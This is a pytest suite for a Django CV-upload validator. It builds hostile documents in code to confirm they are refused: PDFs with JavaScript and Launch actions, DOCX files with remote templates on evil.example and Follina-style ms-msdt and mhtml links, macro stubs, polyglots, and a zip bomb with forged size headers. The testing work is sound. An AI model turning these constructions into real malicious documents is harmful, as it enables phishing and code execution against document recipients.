"""Uploaded documents are judged by content: type from magic bytes, then parsed to be whole."""

import hashlib
import io
import time
import zipfile

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from nominations.uploads import InspectedUpload, UploadRejected, inspect_upload

PDF_TYPE = "application/pdf"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
ODT_TYPE = "application/vnd.oasis.opendocument.text"


# --- documents built in code -------------------------------------------------------------


def make_pdf(password=None):
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if password:
        writer.encrypt(password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def make_zip(entries, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


CONTENT_TYPES_XML = b'<?xml version="1.0"?><Types xmlns="x"/>'
DOCUMENT_XML = b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>'


def make_docx(extra=None):
    entries = {"[Content_Types].xml": CONTENT_TYPES_XML, "word/document.xml": DOCUMENT_XML}
    entries.update(extra or {})
    return make_zip(entries)


ODT_MIMETYPE = ODT_TYPE.encode("ascii")


def make_odt(mimetype=ODT_MIMETYPE):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b'<?xml version="1.0"?><office:document-content/>')
        archive.writestr("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest/>')
    return buffer.getvalue()


def upload(data, name="cv.pdf", content_type=PDF_TYPE):
    return SimpleUploadedFile(name, data, content_type=content_type)


def assert_rejected(data, status, code, max_bytes=None, **upload_kwargs):
    uploaded = upload(data, **upload_kwargs)
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(uploaded, max_bytes=max_bytes)
    error = caught.value
    assert (error.status, error.code) == (status, code)
    assert_human_sentence(error.message, data)
    assert uploaded.tell() == 0
    return error


def assert_human_sentence(message, data):
    assert message and message[0].isupper() and message.endswith(".")
    assert "Traceback" not in message and "Error" not in message
    assert "\n" not in message
    if len(data) >= 4:
        assert data[:16].decode("latin-1") not in message


# --- accepted documents ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "content_type", "extension"),
    [
        (make_pdf(), "cv.pdf", PDF_TYPE, "pdf"),
        (make_docx(), "cv.docx", DOCX_TYPE, "docx"),
        (make_odt(), "cv.odt", ODT_TYPE, "odt"),
        # the declared name and type play no part
        (make_pdf(), "note.txt", "text/plain", "pdf"),
        (make_docx(), "cv.pdf", PDF_TYPE, "docx"),
    ],
)
def test_accepts_valid_documents(data, name, content_type, extension):
    uploaded = upload(data, name=name, content_type=content_type)
    uploaded.read(3)  # the inspection does not depend on the caller's position

    result = inspect_upload(uploaded)

    assert result == InspectedUpload(
        content_type={"pdf": PDF_TYPE, "docx": DOCX_TYPE, "odt": ODT_TYPE}[extension],
        extension=extension,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    assert uploaded.tell() == 0
    assert uploaded.read() == data


def test_accepts_a_file_spooled_to_disk():
    data = make_docx()
    uploaded = TemporaryUploadedFile("cv.docx", DOCX_TYPE, len(data), None)
    try:
        uploaded.write(data)
        uploaded.seek(0)
        result = inspect_upload(uploaded)
        assert (result.extension, result.sha256) == ("docx", hashlib.sha256(data).hexdigest())
        assert uploaded.tell() == 0
    finally:
        uploaded.close()


def test_a_file_exactly_at_the_limit_is_accepted():
    data = make_pdf()
    assert inspect_upload(upload(data), max_bytes=len(data)).size == len(data)


def test_default_limit_comes_from_settings(settings):
    data = make_pdf()
    settings.NOMINA_MAX_UPLOAD_BYTES = len(data) - 1
    error = assert_rejected(data, 413, "file_too_large")
    assert f"{len(data) - 1} bytes" in error.message


# --- size --------------------------------------------------------------------------------


def test_empty_file_is_rejected():
    assert_rejected(b"", 400, "empty_file")


def test_missing_file_is_rejected():
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(None)
    assert (caught.value.status, caught.value.code) == (400, "empty_file")


def test_file_one_byte_over_the_limit_is_rejected():
    data = make_pdf()
    error = assert_rejected(data, 413, "file_too_large", max_bytes=len(data) - 1)
    assert "limit" in error.message


def test_limit_is_stated_in_megabytes():
    data = b"x" * (1024 * 1024 + 1)
    error = assert_rejected(data, 413, "file_too_large", max_bytes=1024 * 1024)
    assert "1 MB" in error.message


def test_size_is_checked_before_content_is_read():
    class Unreadable(SimpleUploadedFile):
        def chunks(self, chunk_size=None):
            raise AssertionError("content read")

    uploaded = Unreadable("cv.pdf", b"%PDF-" + b"x" * 100, content_type=PDF_TYPE)
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(uploaded, max_bytes=10)
    assert caught.value.code == "file_too_large"


# --- unsupported types -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64, "cv.pdf", PDF_TYPE),
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64, "cv.pdf", PDF_TYPE),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32, "photo.pdf", PDF_TYPE),
        (b"Curriculum vitae of a candidate, in plain text.\n", "cv.txt", "text/plain"),
        (
            make_zip(
                {
                    "[Content_Types].xml": CONTENT_TYPES_XML,
                    "xl/workbook.xml": b"<workbook/>",
                }
            ),
            "cv.docx",
            DOCX_TYPE,
        ),
        (make_zip({"setup.exe": b"MZ" + b"\x00" * 100}), "cv.docx", DOCX_TYPE),
        (make_odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"), "cv.odt", ODT_TYPE),
        (b"%PD", "cv.pdf", PDF_TYPE),
    ],
    ids=["exe-renamed-pdf", "elf", "png", "text", "xlsx", "zip", "ods", "pdf-prefix-only"],
)
def test_other_types_are_unsupported(data, name, content_type):
    error = assert_rejected(data, 415, "unsupported_type", name=name, content_type=content_type)
    for accepted in ("PDF", "DOCX", "ODT"):
        assert accepted in error.message


# --- damaged or dangerous documents ------------------------------------------------------


def test_encrypted_pdf_is_rejected():
    error = assert_rejected(make_pdf(password="pw"), 400, "encrypted_pdf")
    assert error.message.startswith("Password-protected PDFs cannot be accepted")


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n garbage",
        make_pdf()[: len(make_pdf()) // 2],
        make_pdf(password="pw")[:300],
    ],
    ids=["garbage", "truncated", "truncated-encrypted"],
)
def test_unreadable_pdf_is_corrupt(data):
    assert_rejected(data, 400, "corrupt_file")


def test_pdf_without_pages_is_corrupt():
    buffer = io.BytesIO()
    pypdf.PdfWriter().write(buffer)
    assert_rejected(buffer.getvalue(), 400, "corrupt_file")


def test_truncated_docx_is_corrupt():
    data = make_docx()
    assert_rejected(data[: len(data) // 2], 400, "corrupt_file", name="cv.docx")


def test_docx_with_a_damaged_member_is_corrupt():
    data = bytearray(make_zip({"[Content_Types].xml": b"a" * 200, "word/document.xml": b"b"}))
    # flip a byte inside the first member's compressed data so its CRC no longer matches
    header_end = 30 + len("[Content_Types].xml")
    data[header_end + 2] ^= 0xFF
    assert_rejected(bytes(data), 400, "corrupt_file", name="cv.docx")


def test_docx_with_too_many_entries_is_refused():
    extra = {f"word/media/{i}.xml": b"" for i in range(2001)}
    data = make_docx(extra)
    assert len(data) < 400_000
    error = assert_rejected(data, 400, "suspicious_archive", name="cv.docx")
    assert "unusually large" in error.message


def test_docx_with_a_huge_compressible_entry_is_refused():
    data = make_docx({"word/media/bomb.bin": b"\x00" * (3 * 1024 * 1024)})
    max_bytes = 100_000
    assert len(data) < max_bytes  # passes the size check, expands far beyond 20 x max_bytes
    assert_rejected(data, 400, "suspicious_archive", max_bytes=max_bytes, name="cv.docx")


# --- active content ----------------------------------------------------------------------
# Each sample is built here with pypdf or zipfile; none is downloaded.

from pypdf.generic import (  # noqa: E402
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _name(value):
    return NameObject(value)


def _action(kind, **entries):
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _javascript():
    return _action("/JavaScript", JS=TextStringObject("app.alert('hello');"))


def pdf_with(change):
    """A one-page PDF after ``change(writer, page)`` added something to it."""
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    change(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action(action):
    def change(writer, page):
        writer._root_object[_name("/OpenAction")] = writer._add_object(action)

    return change


def _javascript_name_tree(writer, page):
    script = writer._add_object(_javascript())
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("hello"), script])})
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): tree})


def _page_open_script(writer, page):
    page[_name("/AA")] = DictionaryObject({_name("/O"): _javascript()})


def _script_in_a_chained_action(writer, page):
    # a harmless first action whose /Next runs JavaScript
    first = _action("/Named", N=_name("/NextPage"), Next=writer._add_object(_javascript()))
    writer._root_object[_name("/OpenAction")] = writer._add_object(first)


def _link(action):
    def change(writer, page):
        annotation = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 50, 50)]),
                _name("/A"): action,
            }
        )
        page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def _form_field_script(writer, page):
    field = DictionaryObject(
        {
            _name("/FT"): _name("/Tx"),
            _name("/T"): TextStringObject("name"),
            _name("/AA"): DictionaryObject({_name("/K"): _javascript()}),
        }
    )
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject([writer._add_object(field)])}
    )


def _attachment(writer, page):
    writer.add_attachment("setup.exe", b"MZ" + b"\x00" * 64)


def _xfa_form(writer, page):
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {
            _name("/Fields"): ArrayObject(),
            _name("/XFA"): TextStringObject("<xdp:xdp/>"),
        }
    )


def _rich_media(writer, page):
    annotation = DictionaryObject(
        {_name("/Type"): _name("/Annot"), _name("/Subtype"): _name("/RichMedia")}
    )
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


LAUNCH = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\calc.exe"))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (_open_action(_javascript()), "JavaScript"),
        (_javascript_name_tree, "JavaScript"),
        (_page_open_script, "JavaScript"),
        (_script_in_a_chained_action, "JavaScript"),
        (_link(_javascript()), "JavaScript"),
        (_form_field_script, "JavaScript"),
        (_open_action(_action("/URI", URI=TextStringObject("https://evil.example/"))), "automatic"),
        (_open_action(LAUNCH), "starts another program"),
        (_link(LAUNCH), "starts another program"),
        (_attachment, "attached files"),
        (_xfa_form, "interactive form"),
        (_rich_media, "embedded media"),
    ],
    ids=[
        "open-action-js",
        "names-javascript",
        "page-aa-js",
        "js-in-next-of-open-action",
        "link-js",
        "form-field-js",
        "open-action-uri",
        "open-action-launch",
        "link-launch",
        "embedded-file",
        "xfa",
        "richmedia",
    ],
)
def test_pdf_with_active_content_is_refused(change, words):
    error = assert_rejected(pdf_with(change), 400, "active_content")
    assert words in error.message
    assert "plain PDF" in error.message


@pytest.mark.parametrize(
    "change",
    [
        _link(_action("/URI", URI=TextStringObject("https://www.linkedin.com/in/claire"))),
        _open_action(ArrayObject([NumberObject(0), _name("/Fit")])),
        lambda writer, page: writer.add_outline_item(title="Experience", page_number=0),
    ],
    ids=["link-to-a-web-page", "open-at-page-one", "bookmarks"],
)
def test_pdf_with_links_and_bookmarks_is_accepted(change):
    assert inspect_upload(upload(pdf_with(change))).extension == "pdf"


def test_pdf_with_too_many_objects_to_check_is_refused(monkeypatch):
    from nominations.uploads import pdf

    monkeypatch.setattr(pdf, "MAX_PDF_NODES", 3)
    links = [_link(_action("/URI", URI=TextStringObject("https://example.org/")))]
    error = assert_rejected(pdf_with(links[0]), 400, "suspicious_structure")
    assert "unusually large" in error.message


def _zip_bytes():
    return make_zip({"readme.txt": b"a ZIP archive hidden in a PDF"})


def _pdf_carrying_a_zip_stream(writer, page):
    from pypdf.generic import StreamObject

    stream = StreamObject()
    stream.set_data(_zip_bytes())
    writer._root_object[_name("/PieceInfo")] = writer._add_object(stream)


@pytest.mark.parametrize(
    "data",
    [
        make_pdf() + _zip_bytes(),
        pdf_with(_pdf_carrying_a_zip_stream),
        # only the end record of an archive, as a ZIP reader looks for it at the end
        make_pdf() + b"PK\x05\x06" + b"\x00" * 4 + b"\x01\x00\x01\x00" + b"\x00" * 10,
    ],
    ids=["zip-appended", "zip-inside", "end-of-central-directory"],
)
def test_pdf_zip_polyglot_is_refused(data):
    error = assert_rejected(data, 415, "ambiguous_file")
    assert "PDF" in error.message and "ZIP" in error.message


def _docx_content_types(*overrides):
    parts = b"".join(
        b'<Override PartName="%s" ContentType="%s"/>' % (name, kind) for name, kind in overrides
    )
    return b'<?xml version="1.0"?><Types xmlns="x">' + parts + b"</Types>"


def _docx_relationship(kind, target):
    rels = (
        b"<Relationships><Relationship Id='rId1' Type='http://schemas.openxmlformats.org/"
        b"officeDocument/2006/relationships/%s' Target='%s' TargetMode='External'/>"
        b"</Relationships>"
    ) % (kind.encode(), target.encode())
    return make_docx({"word/_rels/settings.xml.rels": rels})


MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (make_docx({"word/vbaProject.bin": OLE_MAGIC}), "macros"),
        (make_docx({"word/vbaData.xml": b"<wne:vbaSuppData/>"}), "macros"),
        (
            make_docx(
                {"[Content_Types].xml": _docx_content_types((b"/word/document.xml", MACRO_MAIN))}
            ),
            "macros",
        ),
        (make_docx({"word/embeddings/oleObject1.bin": OLE_MAGIC}), "embedded object"),
        (make_docx({"word/embeddings/setup.exe": b"MZ" + b"\x00" * 64}), "embedded object"),
        (make_docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "embedded object"),
        # a program under an innocent name is found by its first bytes
        (make_docx({"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 200}), "embedded object"),
        (_docx_relationship("attachedTemplate", "https://evil.example/t.dotm"), "embedded object"),
        (_docx_relationship("attachedTemplate", "\\\\evil.example\\t.dotm"), "embedded object"),
        (
            _docx_relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://e/"),
            "embedded object",
        ),
        (_docx_relationship("hyperlink", "ms-msdt:/id PCWDiagnostic"), "embedded object"),
    ],
    ids=[
        "vbaproject",
        "vbadata",
        "macro-enabled-type",
        "ole-object",
        "exe",
        "activex",
        "exe-named-png",
        "remote-template",
        "unc-template",
        "follina-ole-object",
        "ms-msdt-link",
    ],
)
def test_docx_with_active_content_is_refused(data, words):
    error = assert_rejected(data, 400, "active_content", name="cv.docx")
    assert words in error.message


def test_docx_made_from_a_template_on_the_authors_disk_is_accepted():
    data = _docx_relationship("attachedTemplate", "file:///C:\\Users\\claire\\CV.dotx")
    assert inspect_upload(upload(data, name="cv.docx")).extension == "docx"


def test_docx_with_a_hyperlink_and_printer_settings_is_accepted():
    rels = (
        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/hyperlink" Target="https://example.org/"'
        b' TargetMode="External"/></Relationships>'
    )
    data = make_docx(
        {
            "word/_rels/document.xml.rels": rels,
            "word/printerSettings/printerSettings1.bin": b"\x00\x01" * 100,
            "word/media/image1.png": b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
        }
    )
    assert inspect_upload(upload(data, name="cv.docx")).extension == "docx"


def make_odt_with(extra):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", ODT_MIMETYPE, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", b'<?xml version="1.0"?><manifest/>')
        for name, data in {"content.xml": b"<office:document-content/>", **extra}.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("extra", "words"),
    [
        ({"Basic/Standard/Module1.xml": b"<script:module/>"}, "macros"),
        ({"Scripts/python/evil.py": b"import os"}, "macros"),
        (
            {
                "content.xml": (
                    b"<office:document-content><office:event-listeners><script:event-listener"
                    b' script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.'
                    b'Module1.Main?language=Basic&amp;location=application"/>'
                    b"</office:event-listeners></office:document-content>"
                )
            },
            "macros",
        ),
        ({"Object 1": OLE_MAGIC}, "embedded object"),
    ],
    ids=["basic", "scripts", "event-listener", "ole-object"],
)
def test_odt_with_macros_or_objects_is_refused(extra, words):
    error = assert_rejected(make_odt_with(extra), 400, "active_content", name="cv.odt")
    assert words in error.message


@pytest.mark.parametrize(
    "data",
    [
        # a PDF as the first entry, stored: %PDF- within the first 1024 bytes
        make_zip(
            {
                "a.pdf": make_pdf(),
                "[Content_Types].xml": CONTENT_TYPES_XML,
                "word/document.xml": DOCUMENT_XML,
            },
            compression=zipfile.ZIP_STORED,
        ),
        # a PDF stored as the last entry, found by a reader that looks from the end
        make_zip(
            {
                "[Content_Types].xml": CONTENT_TYPES_XML,
                "word/document.xml": DOCUMENT_XML,
                "z.pdf": make_pdf(),
            },
            compression=zipfile.ZIP_STORED,
        ),
        make_docx() + make_pdf(),
    ],
    ids=["pdf-at-the-start", "pdf-at-the-end", "pdf-appended"],
)
def test_docx_pdf_polyglot_is_refused(data):
    assert_rejected(data, 415, "ambiguous_file", name="cv.docx")


# --- bounded cost ------------------------------------------------------------------------


def _bomb():
    """A DOCX of ~190 KB whose image entry inflates to 190 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES_XML)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        with archive.open("word/media/image1.bmp", "w") as member:
            block = b"\x00" * (1024 * 1024)
            for _ in range(190):
                member.write(block)
    return buffer.getvalue()


def _lie_about_size(data, name, declared):
    """Rewrite ``name``'s uncompressed size in both its local and central headers."""
    import struct

    data = bytearray(data)
    encoded = name.encode()
    local = 0
    while True:
        local = data.index(b"PK\x03\x04", local)
        length = struct.unpack_from("<H", data, local + 26)[0]
        if data[local + 30 : local + 30 + length] == encoded:
            struct.pack_into("<I", data, local + 22, declared)
            break
        local += 4
    central = 0
    while True:
        central = data.index(b"PK\x01\x02", central)
        length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + length] == encoded:
            struct.pack_into("<I", data, central + 24, declared)
            break
        central += 4
    return bytes(data)


@pytest.mark.parametrize("lies", [False, True], ids=["honest-sizes", "declared-1-kb"])
def test_a_zip_bomb_is_refused_cheaply(lies):
    data = _bomb()
    if lies:
        data = _lie_about_size(data, "word/media/image1.bmp", 1024)
    assert len(data) < 200_000
    started = time.process_time()
    error = assert_rejected(data, 400, "suspicious_archive", name="cv.docx")
    # a loose bound (a loaded 2-core machine); decompressing the bomb took ~0.5 s
    assert time.process_time() - started < 0.2
    assert "unusually large" in error.message
